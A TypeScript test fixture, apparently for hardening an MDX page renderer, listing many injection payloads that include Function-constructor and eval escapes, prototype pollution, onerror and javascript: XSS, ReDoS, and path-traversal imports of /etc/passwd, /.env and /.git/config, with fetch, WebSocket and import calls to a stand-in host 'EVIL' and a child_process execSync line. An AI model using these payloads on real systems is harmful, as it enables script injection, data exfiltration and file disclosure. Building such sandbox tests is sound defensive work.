import { pages, type Payload } from "../payload.ts";

const secret = "export const secret = 'RUN'";

/** JavaScript in expressions, in spread props, and in names. */
export const expressions: readonly Payload[] = pages("code", {
  "the Function constructor": '{[].constructor.constructor("RUN")()}',
  "the Function constructor through a string method": '{"".sub.constructor("RUN")()}',
  "the Function constructor through an arrow function": '{(() => 0).constructor("RUN")()}',
  "the Function constructor through bracket notation": '{(() => 0)["constructor"]("RUN")()}',
  "the Function constructor through a concatenated name": '{[]["con" + "structor"]["con" + "structor"]("RUN")()}',
  "the Function constructor through an array as a name": '{[][["constructor"]][["constructor"]]("RUN")()}',
  "the Function constructor through an object as a name": '{[][{ toString: () => "constructor" }]("RUN")}',
  "the Function constructor through destructuring":
    'export const f = ({ constructor: { constructor: c } }) => c("RUN")()\n\n{f([])}',
  "the Function constructor through reduce": '{["constructor", "constructor"].reduce((a, b) => a[b], [])("RUN")()}',
  "the Function constructor through optional chaining": '{[]?.constructor?.constructor?.("RUN")?.()}',
  "the GeneratorFunction constructor": '{(function* () {}).constructor("RUN")().next()}',
  "the AsyncFunction constructor": '{(async () => {}).constructor("RUN")()}',
  Function: '{Function("RUN")()}{new Function("RUN")()}',
  eval: '{eval("RUN")}{(0, eval)("RUN")}{globalThis.eval("RUN")}',
  "the canary itself": "{RUN}{window.RUN}{globalThis.RUN}{self.RUN}{top.RUN}{this.RUN}",
  "a timer": '{setTimeout("RUN", 0)}{setInterval(() => RUN, 1)}{queueMicrotask(() => RUN)}',
  "a dynamic import": '{import("data:text/javascript,RUN")}{await import("https://EVIL/a.js")}',
  require: '{require("node:child_process").execSync("touch /tmp/pwned")}{module.constructor._load("fs")}',
  process: '{process.exit(1)}{process.binding("fs")}{process.mainModule.require("fs")}',
  fetch:
    '{fetch("https://EVIL")}{new XMLHttpRequest().open("GET", "https://EVIL")}{navigator.sendBeacon("https://EVIL")}',
  "fetch in an export": 'export const a = fetch("https://EVIL")\n\n{a}',
  "a socket": '{new WebSocket("wss://EVIL")}{new EventSource("https://EVIL")}{new Image().src = "https://EVIL"}',
  "a worker":
    '{new Worker("data:text/javascript,RUN")}{new SharedWorker("https://EVIL")}{navigator.serviceWorker.register("https://EVIL")}',
  "the document":
    '{document.write("<script>RUN</script>")}{document.body.innerHTML = "<img src=x onerror=RUN>"}{document.cookie}',
  "navigation to another location":
    '{location.href = "javascript:RUN"}{window.location = "https://EVIL"}{window.open("https://EVIL")}{location.assign("https://EVIL")}',
  "a dialog": "{alert(1)}{confirm(1)}{prompt(1)}{window.print()}",
  "the message channel":
    '{window.parent.postMessage("x", "*")}{acquireVsCodeApi().postMessage({ kind: "openExternal", url: "https://EVIL" })}',
  "a proxy": '{new Proxy({}, { get: () => RUN }).a}{Reflect.construct(Function, ["RUN"])()}',
  "a getter": "export const o = { get a() { return RUN } }\n\n{o.a}",
  "a setter": "export const o = { set a(x) { RUN } }\n\n{o.a = 1}",
  "a computed property name": 'export const o = { ["__proto__"]: { polluted: 1 } }\n\n{o.polluted}{({}).polluted}',
  "__proto__ in an object":
    "export const o = { __proto__: { polluted: 1, toString: () => RUN } }\n\n{o.polluted} {`${o}`}",
  "__proto__ of an object in an assignment":
    "export const f = () => { const o = {}; o.__proto__.polluted = 1; return o.polluted }\n\n{f()}",
  "__proto__ of an array in an assignment":
    'export const f = () => { const o = []; o["__proto__"]["polluted"] = 1; return 1 }\n\n{f()}',
  "the prototype of a constructor":
    "export const f = () => { Object.prototype.polluted = 1; Array.prototype.map = () => RUN; return 1 }\n\n{f()}",
  "Object.assign to a prototype":
    "{Object.assign(Object.prototype, { polluted: 1 })}{Object.assign({}.__proto__, { polluted: 1 })}",
  "Object.assign from JSON": '{Object.assign({}, JSON.parse(\'{"__proto__":{"polluted":1}}\')).polluted}',
  "Object.defineProperty":
    '{Object.defineProperty(Object.prototype, "polluted", { value: 1 })}{Object.setPrototypeOf({}, { polluted: 1 })}',
  "Object.fromEntries": '{Object.fromEntries([["__proto__", { polluted: 1 }]]).polluted}',
  __defineGetter__: '{({}).__defineGetter__("a", () => RUN)}{({}).__lookupGetter__("__proto__")}',
  "toString that runs code":
    '{`${{ toString: () => RUN }}`}{{ toString: () => RUN } + ""}{[{ toString: () => RUN }].join()}',
  "valueOf that runs code": "{+{ valueOf: () => RUN }}{{ valueOf: () => RUN } * 1}{{ valueOf: () => RUN } > 0}",
  "toJSON that runs code": "{JSON.stringify({ toJSON: () => RUN })}{JSON.stringify({ a: 1 }, () => RUN)}",
  "Symbol.toPrimitive": "{`${{ [Symbol.toPrimitive]: () => RUN }}`}",
  "Symbol.iterator": "{[...{ [Symbol.iterator]: () => RUN }]}",
  "Symbol.species": "{[].map.call({ constructor: { [Symbol.species]: () => RUN } }, (x) => x)}",
  "then that runs code": "{{ then: () => RUN }}{Promise.resolve({ then: () => RUN })}{await { then: () => RUN }}",
  "a tagged template": "{String.raw`RUN`}{((a) => a.constructor.constructor(`RUN`)())`x`}{Function`RUN```}",
  "call and apply":
    '{[].map.call.apply(eval, ["RUN"])}{(() => RUN).bind(null)()}{Function.prototype.call.call(eval, null, "RUN")}',
  "callbacks of array and string methods":
    '{[1, 2].sort((a, b) => RUN)}{"a".replace(/a/, () => RUN)}{[1].map(eval)}{["RUN"].forEach(eval)}{["RUN"].map(Function)}',
  "arguments and callee": "{(function () { return arguments.callee.caller })()}{(function () { return this })().RUN}",
  "a class": "export const A = class { static { RUN } constructor() { RUN } }\n\n{new A()}",
  "an error's stack": "{(() => { try { null.a } catch (e) { return e.constructor.constructor('RUN')() } })()}",
  "a with statement": "{(() => { with ({ a: 1 }) { RUN } })()}",
  debugger: "{(() => { debugger; return 1 })()}",
  "a regular expression that backtracks":
    '{/^(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!".match(/(a|a)*$/)}',
  "a regular expression from a string":
    '{new RegExp("^(a+)+$").exec("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}',
  "very long strings":
    '{"a".repeat(2 ** 30)}{"a".padEnd(2 ** 30)}{new Array(2 ** 31).fill("a").join("")}{"a".repeat(-1)}',
  "an infinite loop": "export const f = () => { while (true) {} }\n\n{f()}",
  "infinite recursion": "export const f = () => f()\n\n{f()}",
  "a component that renders itself": "export const A = () => <A />\n\n<A />",
  "an array that contains itself":
    "export const f = () => { const a = []; a.push(a); return a }\n\n{f()}{JSON.stringify(f())}",
  "an object that contains itself":
    "export const f = () => { const a = {}; a.a = a; return a }\n\n<Card title={f()} {...f()}>a</Card>",
  "a spread prototype": [
    '<p {...{ __proto__: { onclick: "RUN" } }} {...Object.prototype}>a</p>',
    '<p onclick="RUN">a</p>',
  ],
  "spread raw HTML": [
    '<p {...{ dangerouslySetInnerHTML: { __html: "<img src=x onerror=RUN>" } }}>a</p>',
    "<img src=x onerror=RUN>",
  ],
  "spread JSON":
    '<p {...JSON.parse(\'{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}\')}>a</p>',
  "spread children": [
    '<p {...{ children: { type: "img", props: { src: "x", onError: "RUN" }, __html: "<img src=x onerror=RUN>" } }} />',
    "<img src=x onerror=RUN>",
  ],
  "a forged React element": [
    '{{ $$typeof: "react.element", type: "script", props: { children: "RUN" }, key: null, ref: null, constructor: undefined }}',
    "<script>RUN</script>",
  ],
  "a forged preview node": [
    '{{ kind: "element", tag: "script", type: "script", props: { entries: [], children: "RUN" }, children: ["RUN"] }}',
    "<script>RUN</script>",
  ],
  "a forged element in a prop": [
    '<Card title={{ tag: "script", children: ["RUN"] }} icon={{ tag: "#image", props: { src: "https://EVIL/p.png" } }}>a</Card>',
    '<img src="https://EVIL/p.png">',
  ],
  "a forged node in an array prop": [
    '<Card title={[{ tag: "img", props: { src: "https://EVIL/p.png", onerror: "RUN" } }]}>a</Card>',
    '<img src="https://EVIL/p.png" onerror="RUN">',
  ],
  "a tag from an object":
    "export const o = { Script: 'script', __proto__: null }\n\n<o.Script>RUN</o.Script>\n\n<o.constructor>a</o.constructor>",
  "tags named after built-in properties":
    "<constructor>a</constructor>\n\n<__proto__>a</__proto__>\n\n<toString>a</toString>\n\n<hasOwnProperty>b</hasOwnProperty>\n\n<valueOf.call>c</valueOf.call>",
  "internal tags of the preview": [
    '{React.createElement("#image", { src: "https://EVIL/p.png", kind: "img" })}{React.createElement("#embed", { src: "javascript:RUN" })}',
    '<img src="https://EVIL/p.png">',
  ],
  "exports named after built-in properties": `export const __proto__ = { polluted: 1 }\nexport const constructor = 1\nexport const toString = () => RUN\n\n{polluted}`,
  "exported components that replace elements": [
    "export const components = { p: 'script', a: () => <script>RUN</script>, wrapper: 'iframe' }\n\ntext\n\nexport default function Layout() { return <script>RUN</script> }",
    "<script>RUN</script>",
  ],
  "React effects": `${secret}\nexport const A = () => { React.useEffect(() => { RUN; fetch("https://EVIL") }); React.useLayoutEffect(() => RUN); const [x] = React.useState(() => RUN); const r = React.useRef(RUN); React.useMemo(() => RUN); return <p ref={() => RUN}>{x}</p> }\n\n<A />`,
});

/** Imports of a page, along with the imported files. */
export const imports: readonly Payload[] = [
  ...Object.entries({
    "a path above the site": "../../etc/passwd",
    "a path far above the site": "../../../../../../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a file URL": "file:///etc/passwd",
    "a Windows path": "C:\\\\Windows\\\\win.ini",
    "a share": "\\\\\\\\EVIL\\\\share\\\\a.js",
    "a Node.js module": "node:fs",
    "a Node.js module without its prefix": "child_process",
    "a file from the web": "https://EVIL/a.js",
    "a file from the web without a scheme": "//EVIL/a.js",
    data: "data:text/javascript,export default RUN",
    "a package": "left-pad",
    "a script": "javascript:RUN",
    "a path with a NUL": "/snippets/a\\u0000.mdx",
    "a percent-encoded path": "/%2e%2e/%2e%2e/etc/passwd",
    "a path with backslashes": "/snippets\\\\..\\\\..\\\\..\\\\etc\\\\passwd",
    "the site's secrets": "/.env",
    "the repository": "/.git/config",
    "the name of a built-in property": "/__proto__",
  }).map(([what, name]): Payload => ({
    name: `imports/${what}`,
    page: `import A, { b as c } from "${name}"\nimport * as d from "${name}"\nexport { e } from "${name}"\nimport "${name}"\n\n<A />\n\n{A}{c}{d.default}{d}`,
    html: "",
  })),
  {
    name: "imports/a component whose module runs code",
    page: 'import { A } from "/snippets/a.jsx"\n\n<A />',
    files: {
      "snippets/a.jsx":
        'RUN\nfetch("https://EVIL")\nexport const A = () => <img src="https://EVIL/p.png" onError={() => RUN} />',
    },
    html: '<img src="https://EVIL/p.png" onerror="RUN">',
  },
  {
    name: "imports/a snippet with scripts",
    page: 'import S from "/snippets/s.mdx"\n\n<S href="javascript:RUN" />',
    files: {
      "snippets/s.mdx":
        '<script>RUN</script>\n\n<a href={href}>a</a>\n\n<img src="x" onError="RUN" />\n\n{props.constructor.constructor("RUN")()}',
    },
    html: '<script>RUN</script><a href="javascript:RUN">a</a>',
  },
  {
    name: "imports/a snippet that shows itself",
    page: 'import S from "/snippets/s.mdx"\n\n<S />',
    files: { "snippets/s.mdx": 'import S from "/snippets/s.mdx"\n\n<img src="x" onError="RUN" />\n\n<S />' },
    html: '<img src="x" onerror="RUN">',
  },
  {
    name: "imports/JSON data with a prototype",
    page: 'import d from "/data/d.json"\n\n<p {...d}>{d.polluted}{d.href}</p>\n\n<a {...d}>a</a>',
    files: {
      "data/d.json":
        '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"href":"javascript:RUN","onclick":"RUN","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
    },
    html: '<a href="javascript:RUN" onclick="RUN">a</a>',
  },
  {
    name: "imports/an SVG image as a component",
    page: 'import Logo from "/logo.svg"\n\n<Logo />\n\n<img src={Logo} />\n\n<Card img={Logo} title="a" />',
    files: {
      "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="https://EVIL/p.png"/></svg>',
    },
    html: '<svg onload="RUN"><image href="https://EVIL/p.png"></image></svg>',
  },
  {
    name: "imports/types that hide code",
    page: 'import { A } from "/snippets/a.tsx"\n\n<A title="x" />',
    files: {
      "snippets/a.tsx":
        'declare global { var pwned: unknown }\nenum E { A = RUN }\nnamespace N { export const x = RUN }\n@deco(RUN) class C {}\nexport const A = ({ title }: { title: string }) => <a href={"javascript:RUN" as string}>{title satisfies string}</a>',
    },
    html: '<a href="javascript:RUN">a</a>',
  },
];
